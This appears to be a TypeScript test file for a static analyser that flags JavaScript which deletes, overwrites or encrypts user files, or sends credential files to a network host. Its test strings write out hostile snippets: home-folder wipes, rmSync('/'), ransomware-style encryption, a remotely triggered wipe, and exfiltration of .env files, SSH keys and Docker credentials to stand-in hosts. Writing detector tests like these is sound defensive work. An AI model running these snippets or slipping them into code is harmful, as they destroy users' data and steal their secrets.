import assert from 'node:assert/strict';
import { behavioursOf, flowsOf } from './sent.js';

const LOSS = ['deletes-user-files import'];

/** Whatever lies in a folder of the user is gone through, and nothing of it is left. */
const LOSSES: readonly string[] = [
  `const cache = path.join(os.homedir(), '.cache'); for (const e of fs.readdirSync(os.homedir())) fs.rmSync(path.join(os.homedir(), e), { recursive: true });`,
  `for (const e of fs.readdirSync(os.homedir())) fs.unlinkSync(path.join(os.homedir(), e));`,
  `const wipe = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) wipe(p); else fs.rmSync(p); } }; wipe(process.cwd());`,
  `fs.readdirSync('../').forEach((e) => fs.writeFile('../' + e, 'gone', () => {}));`,
  `const seed = 1; const list = fs.readdirSync('../'); for (let i = 0; i < list.length; i++) fs.writeFile('../' + list[i], 'gone', () => {});`,
];

describe('files', () => {
  for (const loss of LOSSES) {
    it(`are lost one by one: ${loss}`, () => {
      assert.deepEqual([...new Set(behavioursOf(loss))], LOSS);
    });
  }

  it('are lost where a host says so, whoever has called', () => {
    const wipe = `for (const e of fs.readdirSync(process.cwd())) fs.rmSync(path.join(process.cwd(), e), { recursive: true });`;
    const listening = (on: string) =>
      behavioursOf(`exports.open = () => { const ws = new (require('ws'))('wss://order.invalid/'); ${on} };`);
    assert.deepEqual(listening(`ws.on('message', (m) => { if (String(m) === 'x') { ${wipe} } });`), [
      'deletes-user-files call',
      'destroys-on-request call',
    ]);
    assert.deepEqual(listening(`ws.on('open', () => { ${wipe} });`), []);
    const ofTool = wipe.replaceAll('process.cwd()', `path.join(process.cwd(), 'dist')`);
    assert.deepEqual(listening(`ws.on('message', (m) => { if (String(m) === 'x') { ${ofTool} } });`), []);
  });

  it('are not lost where they lie in a folder of their own, where they are rewritten, or where somebody asks for it', () => {
    assert.deepEqual(
      behavioursOf(`for (const e of fs.readdirSync(os.tmpdir())) fs.unlinkSync(path.join(os.tmpdir(), e));`),
      [],
    );
    assert.deepEqual(
      behavioursOf(
        `for (const e of fs.readdirSync('.', { withFileTypes: true })) if (e.name === 'node_modules' || e.name === 'dist') fs.rmSync(path.join('.', e.name), { recursive: true });`,
      ),
      [],
    );
    assert.deepEqual(
      behavioursOf(`for (const e of fs.readdirSync('.')) fs.writeFileSync(e, fs.readFileSync(e, 'utf8').trim());`),
      [],
    );
    assert.deepEqual(
      behavioursOf(`exports.clean = () => { for (const e of fs.readdirSync('.')) fs.unlinkSync(e); };`),
      [],
    );
  });

  it('are lost also where somebody asks for it, if each gets the same text and none is asked its name', () => {
    const write = (text: string, asked = ''): readonly string[] =>
      behavioursOf(
        `const fill = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { ${asked} const p = path.join(d, e.name); if (e.isDirectory()) fill(p); else fs.writeFileSync(p, ${text}); } };
         exports.run = () => fill(process.cwd());`,
      );
    assert.deepEqual([...new Set(write(`'gone'`))], ['deletes-user-files call']);
    assert.deepEqual(write(`'gone'`, `if (!e.name.endsWith('.log')) continue;`), []);
    assert.deepEqual(write(`'// licence\\n' + fs.readFileSync(p, 'utf8')`), []);
  });

  it('are known by what is asked of their names', () => {
    const code = (asked: string) =>
      `for (const n of fs.readdirSync(process.cwd()).filter((n) => ${asked})) fetch('https://collect.invalid/' + fs.readFileSync(path.join(process.cwd(), n)));`;
    assert.deepEqual(flowsOf(code(`n.startsWith('.env')`)), ['credential-file>network@collect.invalid']);
    assert.deepEqual(flowsOf(code(`n.endsWith('.md')`)), []);
  });

  it('are known by the pattern that finds them', () => {
    const code = `require('glob').glob(['**/.env'], { cwd: os.homedir() }).then((all) => all.forEach((f) => fetch('https://collect.invalid/' + fs.readFileSync(f))));`;
    assert.deepEqual(flowsOf(code), ['credential-file>network@collect.invalid']);
  });

  it('of the home folder are secrets, whichever they are; those of a project are the project', () => {
    const all = (folder: string): readonly string[] =>
      flowsOf(
        `for (const e of fs.readdirSync(${folder})) fetch('https://collect.invalid', { method: 'PUT', body: fs.readFileSync(path.join(${folder}, e)) });`,
      );
    assert.deepEqual(all('os.homedir()'), ['credential-file>network@collect.invalid']);
    assert.deepEqual(all(`'.'`), []);
  });

  it('are not lost where a path that nobody knows is normalised: that can give the root as well', () => {
    const normalised = (target: string) =>
      `const tidy = (p) => { if (p.length === 0) return ''; if (p.length === 1) return p === '/' ? '/' : '.'; let out = ''; for (let i = 0; i < p.length; i++) if (p[i] === '/') out += '/'; return out; };
      exports.remove = (name) => fs.rmSync(tidy(${target}), { recursive: true, force: true });`;
    assert.deepEqual(behavioursOf(normalised(`path.join(os.homedir(), '.tool', name)`)), []);
    assert.deepEqual(behavioursOf(`exports.remove = () => fs.rmSync('/', { recursive: true });`), [
      'deletes-user-files call',
    ]);
  });

  for (const loss of [
    `for (const e of fs.readdirSync(path.join(os.homedir(), 'Documents'))) fs.unlinkSync(path.join(os.homedir(), 'Documents', e));`,
    `const key = require('crypto'); for (const e of fs.readdirSync(process.cwd())) { const c = key.createCipheriv('aes-256-ctr', K, I);
      fs.writeFileSync(path.join(process.cwd(), e), Buffer.concat([c.update(fs.readFileSync(path.join(process.cwd(), e))), c.final()])); }`,
    `for (const e of fs.readdirSync(os.homedir())) fs.writeFileSync(path.join(os.homedir(), e), require('crypto').randomBytes(9));`,
    `for (const e of fs.readdirSync(os.homedir())) fs.truncateSync(path.join(os.homedir(), e), 0);`,
  ])
    it(`are lost where they are made unreadable: ${loss}`, () => {
      assert.deepEqual([...new Set(behavioursOf(loss))], LOSS);
    });

  it('are read into what is given for that', () => {
    const key = `os.homedir() + '/.ssh/id_rsa'`;
    const sent = `fetch('https://collect.invalid', { method: 'POST', body: b });`;
    for (const read of [
      `const b = Buffer.alloc(4096); fs.readSync(fs.openSync(${key}), b); ${sent}`,
      `fs.promises.open(${key}).then(async (h) => { const b = Buffer.alloc(4096); await h.read(b, 0, 4096, 0); ${sent} });`,
    ])
      assert.ok(flowsOf(read).includes('ssh-key>network@collect.invalid'), read);
    assert.ok(
      flowsOf(
        `const d = fs.openSync(${key}), b = Buffer.allocUnsafe(fs.fstatSync(d).size); fs.readSync(d, b); ${sent}`,
      ).includes('ssh-key>network@collect.invalid'),
    );
    assert.deepEqual(flowsOf(`const b = Buffer.alloc(9); fs.readSync(fs.openSync('/opt/x/logo.png'), b); ${sent}`), []);
  });

  it('that open accounts may be loaded as data', () => {
    const load = (file: string) =>
      flowsOf(
        `const c = require(${file}); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(c) });`,
      );
    assert.deepEqual(load(`os.homedir() + '/.docker/config.json'`), ['credential-file>network@collect.invalid']);
    assert.deepEqual(load(`process.cwd() + '/theme.json'`), []);
  });
});
